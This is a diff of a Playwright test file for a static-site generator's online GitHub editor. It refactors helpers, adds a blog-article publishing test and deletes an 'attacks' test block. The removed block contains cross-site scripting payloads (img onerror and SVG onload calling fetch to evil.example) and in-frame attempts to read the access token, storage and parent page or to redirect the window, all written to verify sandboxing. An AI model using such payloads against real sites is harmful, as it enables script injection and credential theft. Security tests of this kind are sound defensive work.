@@ -1,175 +1,13 @@
-import { execFileSync, spawn } from "node:child_process";
-import { once } from "node:events";
-import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
-import { createServer } from "node:http";
-import type { AddressInfo } from "node:net";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
-import { fileURLToPath } from "node:url";
-import type { FrameLocator, Locator, Page } from "playwright/test";
+import { execFileSync } from "node:child_process";
 import sharp from "sharp";
-import { getMediaType } from "../../../src/output/media-types.ts";
-import { served } from "../../served.mjs";
-import { type Facade, openFacade, place } from "../../unit/editor/github/facade.ts";
 import { violations } from "../axe.ts";
-import { test as base, expect } from "../test.ts";
-
-const project = fileURLToPath(new URL("../../..", import.meta.url));
-const api = "https://api.github.com";
+import { api, changePrice, expect, isOpen, listChangedLines, previewOf, publish, test } from "./online-test.ts";
 
 // All tests use one build, which takes longer than they do.
-base.describe.configure({ mode: "default" });
-
-/** A site with an online editor, built from the newest commit of its repository. */
-interface OnlineSite {
-	/** The home page, below a path as on GitHub Pages. */
-	url: string;
-	/** The definition as it was published first. */
-	text: string;
-	facade: Facade;
-	/** Publishes what the repository has. */
-	deploy: () => Promise<void>;
-	end: () => Promise<void>;
-}
-
-/** Tests of the online editor. Each has a repository of its own. */
-const test = base.extend<{ site: OnlineSite; sendsHeaders: boolean }>({
-	/** Whether the host sends the headers of the site's policy, as GitHub Pages does not. */
-	sendsHeaders: [false, { option: true }],
-	site: async ({ kept, sendsHeaders }, use) => {
-		const built = await kept("built site", buildSite, async (folder) => rmSync(folder, { recursive: true }));
-		const site = await openSite(built, sendsHeaders ? startServer : startPagesServer);
-		await use(site);
-		await site.end();
-	},
-	baseURL: async ({ site }, use) => use(new URL(site.url).origin),
-	// The repository is at another address.
-	tolerated: new RegExp(`^request: ${api}/|^console: .* status of 4.*${api}/`),
-	page: async ({ page, site }, use) => {
-		await page.route(`${api}/**`, async (route) => {
-			const request = route.request();
-			const answer = await site.facade.load(request.url().replace(api, place.api), {
-				method: request.method(),
-				headers: await request.allHeaders(),
-				body: request.postData(),
-			});
-			const headers = { ...Object.fromEntries(answer.headers), "access-control-allow-origin": "*" };
-			await route.fulfill({ status: answer.status, headers, body: Buffer.from(await answer.arrayBuffer()) });
-		});
-		await use(page);
-	},
-});
-
-/** Builds the bakery with an editor. Returns the folder with its files and the output. */
-async function buildSite(): Promise<string> {
-	const folder = mkdtempSync(join(tmpdir(), "site-online-"));
-	cpSync(join(project, "tests/sites/bakery"), join(folder, "source"), { recursive: true });
-	const file = join(folder, "source/site.yaml");
-	const original = readFileSync(file, "utf8").replace("https://www.ryeandwren.example", "https://ann.example/bakery");
-	writeFileSync(file, `${original}\nediting: { host: github, repository: ${place.repository} }\n`);
-	await build(folder);
-	return folder;
-}
-
-async function build(folder: string): Promise<void> {
-	const options = ["--site", join(folder, "source/site.yaml"), "--out", join(folder, "out"), "--no-compress"];
-	const program = spawn(process.execPath, ["src/cli/site.mjs", "build", ...options], { cwd: project, stdio: "ignore" });
-	const [code] = await once(program, "exit");
-	expect(code).toBe(0);
-}
-
-async function openSite(built: string, start: typeof startServer): Promise<OnlineSite> {
-	const folder = mkdtempSync(join(tmpdir(), "site-online-"));
-	cpSync(built, folder, { recursive: true });
-	const source = join(folder, "source");
-	const facade = openFacade(readAll(source));
-	const deploy = async () => {
-		for (const [path, text] of Object.entries(facade.readFiles(facade.getHead())))
-			if (path === "site.yaml") writeFileSync(join(source, path), text);
-		await build(folder);
-	};
-	const server = await start(folder);
-	return {
-		...{ facade, deploy, text: readFileSync(join(source, "site.yaml"), "utf8") },
-		url: `${server.url}/bakery/`,
-		end: async () => {
-			await server.stop();
-			facade.close();
-			rmSync(folder, { recursive: true, force: true });
-		},
-	};
-}
-
-function readAll(folder: string, path = ""): Record<string, Buffer> {
-	const entries = readdirSync(join(folder, path), { withFileTypes: true }).map((entry) => {
-		const name = path === "" ? entry.name : `${path}/${entry.name}`;
-		return entry.isDirectory() ? readAll(folder, name) : { [name]: readFileSync(join(folder, name)) };
-	});
-	return Object.assign({}, ...entries);
-}
-
-/** Serves the site below a path, with its headers. */
-function startServer(folder: string): Promise<{ url: string; stop: () => Promise<void> }> {
-	const options = ["--site", join(folder, "source/site.yaml"), "--out", join(folder, "out"), "--no-compress"];
-	return served(project, ["start", ...options]);
-}
-
-/** Serves the site as GitHub Pages does: below a path, without its headers. */
-async function startPagesServer(folder: string): Promise<{ url: string; stop: () => Promise<void> }> {
-	const server = createPagesServer(join(folder, "out"), "/bakery");
-	await once(server.listen(0, "127.0.0.1"), "listening");
-	const { port } = server.address() as AddressInfo;
-	return { url: `http://127.0.0.1:${port}`, stop: async () => void server.close() };
-}
-
-function createPagesServer(folder: string, path: string) {
-	return createServer(({ url = "" }, response) => {
-		const { pathname } = new URL(url, "http://localhost");
-		const file = join(folder, decodeURIComponent(pathname.slice(path.length)));
-		response.setHeader("access-control-allow-origin", "*");
-		if (!pathname.startsWith(`${path}/`) || !existsSync(file)) return response.writeHead(404).end();
-		const isFolder = statSync(file).isDirectory();
-		if (isFolder && !pathname.endsWith("/")) return response.writeHead(301, { location: `${pathname}/` }).end();
-		const document = isFolder ? join(file, "index.html") : file;
-		response.setHeader("content-type", getMediaType(document));
-		response.end(readFileSync(document));
-	});
-}
-
-/** Opens the editor at its address, and signs in. */
-async function signIn(page: Page, site: OnlineSite): Promise<void> {
-	await page.goto(`${site.url}edit`);
-	await page.getByLabel("Access token").fill("secret");
-	await page.getByRole("button", { name: "Sign in" }).click();
-	await isOpen(page);
-}
-
-async function isOpen(page: Page): Promise<void> {
-	await expect(previewOf(page).locator("main, .bare").first()).toBeVisible();
-}
-
-function previewOf(page: Page): FrameLocator {
-	return page.getByRole("region", { name: "Page" }).locator("iframe").contentFrame();
-}
-
-/** Opens the form of a text on a page. */
-async function openForm(page: Page, pageName: string, text: string): Promise<Locator> {
-	const list = page.getByRole("combobox", { name: "Current page" });
-	await list.click();
-	await list.fill(pageName);
-	await page.getByRole("option", { name: pageName }).first().click();
-	await previewOf(page).getByText(text, { exact: true }).first().click();
-	return page.getByRole("region", { name: "Panel" });
-}
-
-/** The lines of the newest commit, beside those of the text that the editor was opened with. */
-function listChangedLines({ facade, text }: OnlineSite): string[][] {
-	const [old, fresh] = [text, facade.readFiles(facade.getHead())["site.yaml"]!].map((one) => one.split("\n"));
-	return [old!.filter((line) => !fresh!.includes(line)), fresh!.filter((line) => !old!.includes(line))];
-}
+test.describe.configure({ mode: "default" });
 
 test.describe("on a host that sends the headers of the site", () => {
-	test.use({ sendsHeaders: true });
+	test.use({ webServer: "start" });
 
 	test("a price, from the sign-in to what visitors see", async ({ page, site }) => {
 		test.slow();
@@ -189,14 +27,8 @@ test.describe("on a host that sends the headers of the site", () => {
 		await isOpen(page);
 		expect(site.facade.requests.length).toBeLessThanOrEqual(10);
 
-		const panel = await openForm(page, "Baskets", "Dark rye, whole");
-		await panel.getByRole("textbox", { name: /^Price/ }).fill("5.65");
-		await expect(previewOf(page).getByText("£5.65")).toBeVisible();
-		await expect(page.getByText("1 change to publish", { exact: true })).toBeVisible();
-		await page.getByRole("button", { name: "Publish" }).click();
-		const dialog = page.getByRole("dialog", { name: "Publish" });
-		await dialog.getByRole("button", { name: "Publish now" }).click();
-		await expect(dialog.locator("[data-severity=done]")).toContainText("Published to ann/bakery, in main.");
+		await changePrice(page);
+		const dialog = await publish(page);
 		await expect(dialog.getByText("Visitors don’t see your changes yet.")).toBeVisible();
 		expect(site.facade.countCommits()).toBe(2);
 		expect(listChangedLines(site)).toEqual([["                price: 5.20"], ["                price: 5.65"]]);
@@ -270,88 +102,80 @@ function takePhotograph(): Promise<Buffer> {
 		.toBuffer();
 }
 
-test.describe("attacks", () => {
-	test.use({ tolerated: /./ });
+test("an article is written and published alone, and the next one outlives a sign-out", async ({ page, site }) => {
+	test.slow();
+	const { facade } = site;
+	await page.goto(`${site.url}edit`);
+	await page.getByLabel("Stay signed in until I close this tab").check();
+	await page.getByLabel("Access token").fill("secret");
+	await page.getByRole("button", { name: "Sign in" }).click();
+	await isOpen(page);
+	const list = page.getByRole("combobox", { name: "Current page" });
+	const headline = previewOf(page).getByRole("heading", { level: 1 });
+	const panel = page.getByRole("region", { name: "Panel" });
 
-	test("code in the page under edit can reach neither the token nor any host", async ({ page, site }) => {
-		const asked: string[] = [];
-		// Only what the policy allows comes here.
-		await page.route("https://evil.example/**", (route) => {
-			asked.push(route.request().url());
-			return route.fulfill({ body: "" });
-		});
-		const markup = `<img src="https://evil.example/?text" onerror="fetch('https://evil.example/?code')">`;
-		const text = site.text.replace(
-			"heading: Warm bread with your name on it",
-			`heading: '${markup.replaceAll("'", "''")}'`,
-		);
-		const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('https://evil.example/?svg')"><image href="https://evil.example/?image"/></svg>`;
-		site.facade.commitOutside({ "site.yaml": text, "images/loaf.svg": drawing });
-		await signIn(page, site);
-		await expect(previewOf(page).getByText("?text")).toBeVisible();
-		site.facade.requests.length = 0;
-		const frame = page.frames().find((one) => one.url().includes("/edit/frame"))!;
-		const reached = await frame.evaluate(async (editor) => {
-			const attempts: Record<string, () => unknown> = {
-				origin: () => self.origin,
-				storage: () => sessionStorage.length,
-				parent: () => parent.document.title,
-				settings: () => (parent as Window & { token?: string }).token,
-				database: () =>
-					new Promise((resolve, reject) => {
-						const opening = indexedDB.open("site-editor");
-						opening.onsuccess = () => resolve("opened");
-						opening.onerror = () => reject(new Error());
-					}),
-				fetch: () => fetch("https://evil.example/?fetch"),
-				own: () => fetch(editor).then((response) => response.text()),
-				github: () => fetch("https://api.github.com/user"),
-				picture: () =>
-					new Promise((resolve, reject) => {
-						const image = new Image();
-						image.onload = resolve;
-						image.onerror = () => reject(new Error());
-						image.src = "https://evil.example/?picture";
-					}),
-				script: () =>
-					new Promise((resolve, reject) => {
-						const script = document.createElement("script");
-						script.onload = resolve;
-						script.onerror = () => reject(new Error());
-						script.src = "https://evil.example/?script";
-						document.body.append(script);
-					}),
-				popup: () => {
-					if (!open("https://evil.example/?popup")) throw new Error();
-				},
-				top: () => {
-					top!.location.href = "https://evil.example/?top";
-				},
-			};
-			const done: string[] = [];
-			for (const [name, attempt] of Object.entries(attempts)) {
-				try {
-					done.push(`${name}: ${await attempt()}`);
-				} catch {
-					// As it should be.
-				}
-			}
-			return done;
-		}, `${site.url}edit/`);
-		expect(reached).toEqual(["origin: null"]);
-		// Even from another page, the frame would get what is edited.
-		await frame.evaluate(() => {
-			location.href = "https://evil.example/?frame";
-		});
-		await expect.poll(() => page.frames().map((one) => one.url())).toContain("chrome-error://chromewebdata/");
-		expect([...asked, ...site.facade.requests]).toEqual([]);
-		expect(page.url()).toBe(`${site.url}edit/`);
+	await test.step("a blog is added and published", async () => {
+		await list.click();
+		await page.getByRole("button", { name: "Add a page" }).click();
+		const dialog = page.getByRole("dialog", { name: "Add a page" });
+		await dialog.getByRole("radio", { name: "A blog or news" }).check();
+		await dialog.getByLabel("Page name").fill("News");
+		await dialog.getByRole("button", { name: "Add page" }).click();
+		await expect(headline).toHaveText("First article");
+		await publish(page);
+		await page.keyboard.press("Escape");
+		expect(listPublishedFiles()).toEqual(["news/first-article.md", "site.yaml"]);
 	});
 
-	test("another website that shows the editor in a frame gets no sign-in", async ({ page, site }) => {
-		await page.setContent(`<iframe src="${site.url}edit/" title="Editor"></iframe>`);
-		const editor = page.frameLocator("iframe");
-		await expect(editor.getByText("Open the editor in a tab of its own.")).toBeVisible();
-		await expect(editor.getByLabel("Access token")).toHaveCount(0);
+	await test.step("an article changes no other file", async () => {
+		await addArticle("We are back");
+		await page.keyboard.type("With new ideas.");
+		await publish(page);
+		await page.keyboard.press("Escape");
+		expect(listPublishedFiles()).toEqual(["news/we-are-back.md"]);
+		const article = facade.readFiles(facade.getHead())["news/we-are-back.md"];
+		expect(article).toMatch(/^---\ntitle: We are back\ndate: \d{4}-\d\d-\d\d\n/);
+		expect(article).toMatch(/\n---\n\nWith new ideas\.\n$/);
+		expect(facade.countCommits()).toBe(3);
 	});
+
+	await test.step("signing out forgets the token, and keeps what isn’t published", async () => {
+		await addArticle("Not yet");
+		await page.keyboard.type("Wait for it.");
+		await expect(page.getByText("1 change to publish", { exact: true })).toBeVisible();
+		await page.getByRole("button", { name: "Sign out" }).click();
+		const status = page.getByText("You are signed out: this tab has forgotten your access token.");
+		await expect(status).toBeFocused();
+		expect(await violations(page, ["light", "dark"])).toEqual([]);
+		await expect(page.getByLabel("Access token")).toHaveValue("");
+		expect(await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))).toBe("[{},{}]");
+		facade.requests.length = 0;
+		await page.reload();
+		await expect(page.getByRole("button", { name: "Sign in" })).toBeEnabled();
+		await expect(status).toHaveCount(0);
+		expect(facade.requests).toEqual([]);
+		await page.getByLabel("Access token").fill("secret");
+		await page.getByRole("button", { name: "Sign in" }).click();
+		await page.getByRole("dialog").getByRole("button", { name: "Restore my changes" }).click();
+		await list.click();
+		await list.fill("Not yet");
+		await page.getByRole("option", { name: "Not yet" }).first().click();
+		await expect(headline).toHaveText("Not yet");
+		await expect(previewOf(page).getByText("Wait for it.")).toBeVisible();
+	});
+
+	async function addArticle(title: string): Promise<void> {
+		await list.click();
+		await page.getByRole("button", { name: "New article in News" }).click();
+		const dialog = page.getByRole("dialog", { name: "New article" });
+		await dialog.getByLabel("Title").fill(title);
+		await dialog.getByRole("button", { name: "Add article" }).click();
+		await expect(headline).toHaveText(title);
+		await expect(panel.getByLabel("Text", { exact: true })).toBeFocused();
+	}
+
+	/** Lists the files that the newest commit changes. */
+	function listPublishedFiles(): string[] {
+		return facade.git("diff", "--name-only", "main^", "main").split("\n");
+	}
 });
